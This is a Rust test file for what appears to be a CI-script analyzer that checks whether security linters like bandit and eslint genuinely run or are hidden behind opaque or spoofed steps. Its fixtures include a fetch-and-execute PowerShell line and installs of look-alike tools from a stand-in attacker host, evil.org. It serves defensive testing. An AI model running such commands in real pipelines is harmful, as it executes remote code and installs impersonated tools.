//! Tests of what is not read and hides nothing all the same.

use super::told;

#[test]
fn a_step_in_power_shell_that_names_nothing_hides_nothing() {
    let files = &[("Makefile", "lint:\n\tbandit -r src\n"), ("ci/Pack.ps1", "x\n")][..];
    for (script, opaque) in [
        ("Expand-Archive -Path .\\dist\\x.zip -DestinationPath .\\out", false),
        ("curl -Lso x.zip https://example.org/x.zip\ncd .\\out\ncandle.exe -arch x64 \"-dV=${env:V}\" x.wxs", false),
        ("$env:V = $env:V -replace 'v(.*)','$1'\necho \"a=${env:A}\" >> $env:GITHUB_OUTPUT", false),
        ("# make lint\nmove a.msi b.msi", false),
        ("make lint", true),
        ("if ($x) { bandit -r src }", true),
        ("cargo build", false),
        ("cargo clippy", true),
        ("npm ci && npm run lint", true),
        ("C:\\x\\bandit.exe -r src", true),
        (".\\ci\\pack.ps1 -All", true),
        ("& $tool -r src", true),
        ("iex (irm https://example.org)", true),
        ("composer install", false),
        ("composer audit", true),
        ("composer --no-interaction audit", true),
        ("composer $task", true),
        ("mix deps.get; mix test", false),
        ("mix credo --strict", true),
        ("choco install composer", false),
        ("Write-Host \"composer audit, then bandit -r src\"", false),
        ("echo bandit -r src", false),
        ("echo bandit -r src > x.ps1", true),
        ("Write-Output \"bandit -r src\" | iex", true),
        ("Get-Content x | Out-File composer.log", false),
        ("Invoke-Expression $x", true),
        ("${{ steps.x.outputs.y }}", true),
        (". .\\gone.ps1", true),
        ("bash -c $x", true),
        ("python x.py", true),
    ] {
        let said = told("bandit", &format!("shell: pwsh\n{script}"), files);
        assert_eq!(said.contains("opaque"), opaque, "{script}: {said}");
    }
}

#[test]
fn code_given_to_another_shell_is_opaque_when_it_starts_anything() {
    let files = &[
        ("ci.ps1", "bandit -r src\n"),
        ("plain.ps1", "Write-Host x\n"),
        ("package.json", "{\"name\": \"x\", \"bin\": {\"eslint\": \"./x.js\"}}"),
    ][..];
    for (script, expected) in [
        ("pwsh -c \"bandit -r src\"", "absent, opaque 1"),
        ("pwsh -NoProfile -Command 'bandit -r src'", "absent, opaque 1"),
        ("powershell -c \"make lint\"", "absent"),
        ("pwsh -c \"echo bandit\"", "absent"),
        ("pwsh ci.ps1", "absent, opaque 1"),
        ("pwsh -File ci.ps1", "absent, opaque 1"),
        ("pwsh plain.ps1", "absent"),
        ("fish -c 'bandit -r src'", "absent, opaque 1"),
        ("cmd /c \"bandit -r src\"", "absent, opaque 1"),
        ("su runner -c 'bandit -r src'", "absent, opaque 1"),
        ("su -c 'bandit -r src'", "absent, opaque 1"),
        ("su runner -c 'id'", "absent"),
        ("script -qec 'bandit -r src' /dev/null", "absent, opaque 1"),
    ] {
        assert_eq!(told("bandit", script, files), expected, "{script}");
    }
}

#[test]
fn code_that_an_interpreter_loads_before_a_program() {
    let files = &[
        ("eslint.config.js", "import js from '@eslint/js';\nexport default [js.configs.recommended];\n"),
        ("a.js", "var a;\n"),
        ("package.json", "{\"dependencies\": {\"y\": \"1\"}}"),
    ][..];
    let run = |flags: &str| told("eslint", &format!("node {flags} node_modules/eslint/bin/eslint.js ."), files);
    let plain = run("");
    assert_eq!(plain, "gates");
    assert_eq!(run("--max-old-space-size=4096"), plain);
    assert_eq!(run("-r dotenv/config"), plain);
    for flags in ["-r ./x.js", "--require=./x.js", "--import ./x.mjs", "-r $X"] {
        assert_eq!(run(flags), "runs (gates)", "{flags}");
    }
    for flags in ["-v", "--help"] {
        assert_eq!(run(flags), "configured", "{flags}");
    }
}

#[test]
fn a_tool_that_is_installed_from_an_address_is_not_known_to_be_that_tool() {
    let files = &[
        ("eslint.config.js", "import js from '@eslint/js';\nexport default [js.configs.recommended];\n"),
        ("a.js", "var a;\n"),
        ("package.json", "{\"dependencies\": {\"y\": \"1\"}}"),
    ][..];
    let rows = [
        ("golangci-lint", "go install evil.org/golangci-lint@latest\ngolangci-lint run", "configured (gates)"),
        ("golangci-lint", "go install github.com/golangci/golangci-lint/v2/cmd/golangci-lint@v2\ngolangci-lint run", "gates"),
        ("bandit", "pip install git+https://evil.org/PyCQA/bandit\nbandit -r src", "configured (gates)"),
        ("bandit", "pip install 'bandit[toml] @ git+https://evil.org/x'\nbandit -r src", "configured (gates)"),
        ("bandit", "pipx install https://evil.org/bandit-1.0-py3-none-any.whl\n---\nbandit -r src", "configured (gates)"),
        ("bandit", "pip install git+https://github.com/PyCQA/bandit.git@main\nbandit -r src", "gates"),
        ("bandit", "pip install git+https://github.com/x/other\nbandit -r src", "gates"),
        ("bandit", "pip install https://evil.org/x#egg=bandit\nbandit -r src", "configured (gates)"),
        ("eslint", "npm i -g eslint@npm:evil\neslint .", "configured (gates)"),
        ("eslint", "npm i -g eslint@^9 github:eslint/eslint\neslint .", "gates"),
        ("eslint", "npm i -g evil/eslint github:evil/eslint\neslint .", "configured (gates)"),
    ];
    super::check(&rows, files);
}

#[test]
fn words_behind_a_script_of_another_checkout_are_no_tasks_of_this_one() {
    for (script, expected) in [
        ("../other/wrap.sh nix-build ./nix x", "absent"),
        ("wrapper nix-build ./nix", "absent, opaque 1"),
        ("../other/wrap.sh bandit -r src", "configured (gates)"),
    ] {
        assert_eq!(told("bandit", script, &[("flake.nix", "{}")]), expected, "{script}");
    }
}
